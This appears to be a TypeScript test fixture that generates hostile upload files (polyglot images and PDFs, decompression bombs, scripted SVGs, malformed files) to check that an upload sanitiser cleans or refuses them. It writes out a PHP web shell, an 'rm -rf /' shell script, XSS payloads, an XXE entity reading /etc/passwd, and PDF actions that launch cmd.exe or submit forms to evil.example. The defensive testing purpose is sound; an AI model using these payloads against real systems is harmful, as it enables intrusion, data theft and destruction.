import { Buffer } from 'node:buffer';
import { crc32, deflateSync } from 'node:zlib';
import { makePdf, makePhotograph, makePicture, pdfStream } from './pictures.js';

/** What must not be left of a file that is taken: written by us into it, and looked for in what is served. */
export const marks = ['<script', '<?php', 'PK\u0003\u0004', 'PhoneOfZhangSan', 'hidden-payload', '#!/bin/sh'];

type Refusal = 'file_type_refused' | 'file_damaged' | 'file_too_large';
export type HostileFile = {
  what: string;
  make: () => Promise<Buffer> | Buffer;
  /** How it is answered; `cleaned`: taken, and what is kept is a picture without any of the marks. */
  ends: Refusal | 'cleaned';
};

const text = (value: string) => Buffer.from(value, 'latin1');
const html = text('<html><body><script>alert(document.domain)</script></body></html>');
const php = text('<?php system($_GET["c"]); ?>');
const shell = text('#!/bin/sh\nrm -rf /\n');
const svg = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>');
const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const repeated = (part: Buffer, size: number) => Buffer.alloc(size, part);

/** An archive of one stored file, found from its end; `offset`: where in the file it starts. */
function zip(name: string, content: Buffer, offset = 0, comment = 0): Buffer {
  const sizes = Buffer.alloc(12);
  sizes.writeUInt32LE(crc32(content), 0);
  sizes.writeUInt32LE(content.length, 4);
  sizes.writeUInt32LE(content.length, 8);
  const common = Buffer.concat([Buffer.alloc(8), sizes, Buffer.from([name.length, 0, 0, 0])]);
  const local = Buffer.concat([text('PK\x03\x04'), text('\x14\0'), common, text(name), content]);
  const central = Buffer.concat([text('PK\x01\x02\x14\0\x14\0'), common, Buffer.alloc(14), text(name)]);
  central.writeUInt32LE(offset, 42);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(offset + local.length, 16);
  end.writeUInt16LE(comment, 20);
  return Buffer.concat([local, central, end]);
}

function pngChunk(kind: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([text(kind), data]);
  const check = Buffer.alloc(4);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
}

/** A PNG that says how large it is and brings as many packed bytes as `packed` holds. */
function png(width: number, height: number, packed: Buffer, ...more: Buffer[]): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const parts = [
    pngChunk('IHDR', head),
    ...more,
    pngChunk('IDAT', packed),
    pngChunk('IEND', Buffer.alloc(0)),
  ];
  return Buffer.concat([text('\x89PNG\r\n\x1a\n'), ...parts]);
}
const blank = (width: number, height: number) =>
  deflateSync(Buffer.alloc(height * (width + 1)), { level: 9 });

/** A JPEG with a segment of any kind behind its start. */
async function jpegWith(kind: number, content: Buffer): Promise<Buffer> {
  const jpeg = await makePicture('jpeg');
  const head = Buffer.from([0xff, kind, (content.length + 2) >> 8, (content.length + 2) & 255]);
  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)]);
}
const appended = (kind: 'jpeg' | 'png' | 'webp', more: Buffer) => async () =>
  Buffer.concat([await makePicture(kind), more]);
const cut = (kind: 'jpeg' | 'png' | 'webp', share: number) => async () => {
  const whole = await makePicture(kind, { noise: true });
  return whole.subarray(0, Math.floor(whole.length * share));
};
/** A JPEG whose head says another size. */
async function jpegOfSize(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(await makePicture('jpeg'));
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.writeUInt16BE(height, frame + 5);
  jpeg.writeUInt16BE(width, frame + 7);
  return jpeg;
}

const action = '<< /S /JavaScript /JS (app.alert(1)) >>';
const packedObjects = (objects: string) =>
  pdfStream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`, deflateSync(text(`9 0 ${objects}`)));

const pictures: HostileFile[] = [
  { what: 'a JPEG with a ZIP behind it', make: appended('jpeg', zip('a.sh', shell)), ends: 'cleaned' },
  { what: 'a JPEG with HTML behind it', make: appended('jpeg', html), ends: 'cleaned' },
  { what: 'a JPEG with PHP behind it', make: appended('jpeg', php), ends: 'cleaned' },
  { what: 'a JPEG with PHP in its comment', make: () => jpegWith(0xfe, php), ends: 'cleaned' },
  { what: 'a JPEG with HTML in an APP1 segment', make: () => jpegWith(0xe1, html), ends: 'cleaned' },
  { what: 'a JPEG with a script in a profile', make: () => jpegWith(0xe2, html), ends: 'cleaned' },
  {
    what: 'a JPEG with another picture’s payload behind it',
    make: appended('jpeg', text('hidden-payload')),
    ends: 'cleaned',
  },
  { what: 'a photograph that says where it was taken', make: () => makePhotograph('jpeg'), ends: 'cleaned' },
  { what: 'a PNG that says where it was taken', make: () => makePhotograph('png'), ends: 'cleaned' },
  { what: 'a WebP that says where it was taken', make: () => makePhotograph('webp'), ends: 'cleaned' },
  {
    what: 'a PNG with PHP in a text chunk',
    make: () => png(8, 8, blank(8, 8), pngChunk('tEXt', Buffer.concat([text('Comment\0'), php]))),
    ends: 'cleaned',
  },
  {
    what: 'a PNG with a packed text that unpacks to 200 MB',
    make: () =>
      png(
        8,
        8,
        blank(8, 8),
        pngChunk('zTXt', Buffer.concat([text('c\0\0'), deflateSync(Buffer.alloc(200_000_000))])),
      ),
    ends: 'cleaned',
  },
  { what: 'a PNG with a ZIP behind it', make: appended('png', zip('a.php', php)), ends: 'cleaned' },
  { what: 'a WebP with a shell script behind it', make: appended('webp', shell), ends: 'cleaned' },
  {
    what: 'a PNG that unpacks to more than it says',
    make: () => png(8, 8, deflateSync(Buffer.alloc(300_000_000))),
    ends: 'cleaned',
  },
];

const bombs: HostileFile[] = [
  {
    what: 'a PNG of 30000 × 30000 in 900 kB',
    make: () => png(30_000, 30_000, blank(30_000, 3000)),
    ends: 'file_too_large',
  },
  {
    what: 'a PNG that says 2³¹−1 × 2³¹−1',
    make: () => png(2 ** 31 - 1, 2 ** 31 - 1, blank(8, 8)),
    ends: 'file_damaged',
  },
  { what: 'a PNG of 0 × 0', make: () => png(0, 0, blank(8, 8)), ends: 'file_damaged' },
  { what: 'a PNG of 50000 × 1', make: () => png(50_000, 1, blank(50_000, 1)), ends: 'cleaned' },
  { what: 'a JPEG that says 60000 × 60000', make: () => jpegOfSize(60_000, 60_000), ends: 'file_too_large' },
  {
    what: 'a ZIP bomb',
    make: () => zip('bomb', deflateSync(Buffer.alloc(100_000_000))),
    ends: 'file_type_refused',
  },
];

const damaged: HostileFile[] = [
  { what: 'half a JPEG', make: cut('jpeg', 0.5), ends: 'file_damaged' },
  { what: 'half a PNG', make: cut('png', 0.5), ends: 'file_damaged' },
  { what: 'half a WebP', make: cut('webp', 0.5), ends: 'file_damaged' },
  { what: 'the first bytes of a PNG', make: () => text('\x89PNG\r\n\x1a\n'), ends: 'file_damaged' },
  {
    what: 'the first bytes of a JPEG',
    make: () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]),
    ends: 'file_damaged',
  },
  {
    what: 'half a PDF',
    make: () => makePdf({ text: 'x'.repeat(4000) }).subarray(0, 2000),
    ends: 'file_damaged',
  },
  { what: 'a PDF that is only its first line', make: () => text('%PDF-1.7\n'), ends: 'file_damaged' },
  {
    what: 'a PDF whose table of objects lies behind its end',
    make: () => text('%PDF-1.7\n1 0 obj\n<<>>\nendobj\nstartxref\n99999\n%%EOF\n'),
    ends: 'file_damaged',
  },
  {
    what: 'a PDF with a program behind it',
    make: () => Buffer.concat([makePdf(), shell]),
    ends: 'file_damaged',
  },
  { what: 'a PDF with HTML behind it', make: () => Buffer.concat([makePdf(), html]), ends: 'file_damaged' },
];

const others: HostileFile[] = [
  { what: 'an SVG with a script', make: () => svg, ends: 'file_type_refused' },
  {
    what: 'an SVG behind a declaration of XML',
    make: () => Buffer.concat([text('<?xml version="1.0"?>\n'), svg]),
    ends: 'file_type_refused',
  },
  {
    what: 'an SVG that reads a file of ours',
    make: () =>
      text(
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
      ),
    ends: 'file_type_refused',
  },
  { what: 'a GIF', make: () => gif, ends: 'file_type_refused' },
  {
    what: 'a GIF that is a script too',
    make: () => Buffer.concat([text('GIF89a=1;alert(1);//'), html]),
    ends: 'file_type_refused',
  },
  { what: 'HTML', make: () => html, ends: 'file_type_refused' },
  { what: 'PHP', make: () => php, ends: 'file_type_refused' },
  {
    what: 'a program',
    make: () => Buffer.concat([text('\x7fELF\x02\x01\x01'), Buffer.alloc(2000)]),
    ends: 'file_type_refused',
  },
  {
    what: 'a program for Windows',
    make: () => Buffer.concat([text('MZ\x90\0'), Buffer.alloc(2000)]),
    ends: 'file_type_refused',
  },
  { what: 'an archive of a document', make: () => zip('word/document.xml', html), ends: 'file_type_refused' },
  {
    what: 'a TIFF',
    make: () => Buffer.concat([text('II*\0\x08\0\0\0'), Buffer.alloc(500)]),
    ends: 'file_type_refused',
  },
  {
    what: 'a HEIC',
    make: () => Buffer.concat([text('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), Buffer.alloc(500)]),
    ends: 'file_type_refused',
  },
  { what: 'zeros', make: () => Buffer.alloc(100_000), ends: 'file_type_refused' },
  { what: 'one byte', make: () => Buffer.alloc(1), ends: 'file_type_refused' },
  {
    what: 'a PDF behind a line of its own',
    make: () => Buffer.concat([text('\n\n'), makePdf()]),
    ends: 'file_type_refused',
  },
  {
    what: 'HTML that calls itself a PDF further down',
    make: () => Buffer.concat([html, makePdf()]),
    ends: 'file_type_refused',
  },
];

const pdfs: HostileFile[] = [
  {
    what: 'a PDF with a script',
    make: () => makePdf({ catalogue: '/Names 4 0 R', objects: [action] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF that runs something when opened',
    make: () =>
      makePdf({ catalogue: '/OpenAction 4 0 R', objects: ['<< /S /URI /URI (http://evil.example) >>'] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF that starts a program',
    make: () => makePdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF with a file in it',
    make: () => makePdf({ objects: [pdfStream('/Type /EmbeddedFile', shell)] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF that sends a form away',
    make: () => makePdf({ objects: ['<< /S /SubmitForm /F (http://evil.example) >>'] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF with a film in it',
    make: () => makePdf({ objects: ['<< /Subtype /RichMedia >>'] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF that nobody can look into',
    make: () => makePdf({ objects: ['<< /Encrypt 9 0 R >>'] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF that spells its script otherwise',
    make: () => makePdf({ objects: ['<< /S /J#61v#61Scr#69pt /#4A#53 (app.alert(1)) >>'] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF with a script among packed objects',
    make: () => makePdf({ objects: [packedObjects(action)] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF with a script in a stream that calls itself nothing',
    make: () =>
      makePdf({
        objects: [pdfStream('/N 1 /First 4 % endstream (stream)', deflateSync(text(`9 0 ${action}`)))],
      }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF with objects packed in a way of their own',
    make: () =>
      makePdf({
        objects: [
          pdfStream(
            '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]',
            text(deflateSync(text(action)).toString('hex')),
          ),
        ],
      }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF with a stream that unpacks to a gigabyte',
    make: () =>
      makePdf({ objects: [pdfStream('/Filter /FlateDecode', deflateSync(Buffer.alloc(1_000_000_000)))] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF that is a page of the web too',
    make: () => makePdf({ objects: [pdfStream('', html)] }),
    ends: 'file_type_refused',
  },
  { what: 'a PDF that is an archive too', make: () => pdfAndArchive(), ends: 'file_type_refused' },
  {
    what: 'a PDF with a hundred thousand streams',
    make: () => makePdf({ objects: [repeated(text('stream\n'), 700_000)] }),
    ends: 'file_type_refused',
  },
];

/** An archive inside a stream, whose comment is all the rest of the PDF. */
function pdfAndArchive(): Buffer {
  const place = makePdf({ objects: [pdfStream('', zip('a.sh', shell))] });
  const start = place.indexOf('PK\x03\x04', 0, 'latin1');
  const end = place.indexOf('PK\x05\x06', 0, 'latin1');
  const archive = zip('a.sh', shell, start, place.length - end - 22);
  return Buffer.concat([place.subarray(0, start), archive, place.subarray(end + 22)]);
}

export const hostileFiles: readonly HostileFile[] = [...pictures, ...bombs, ...damaged, ...others, ...pdfs];
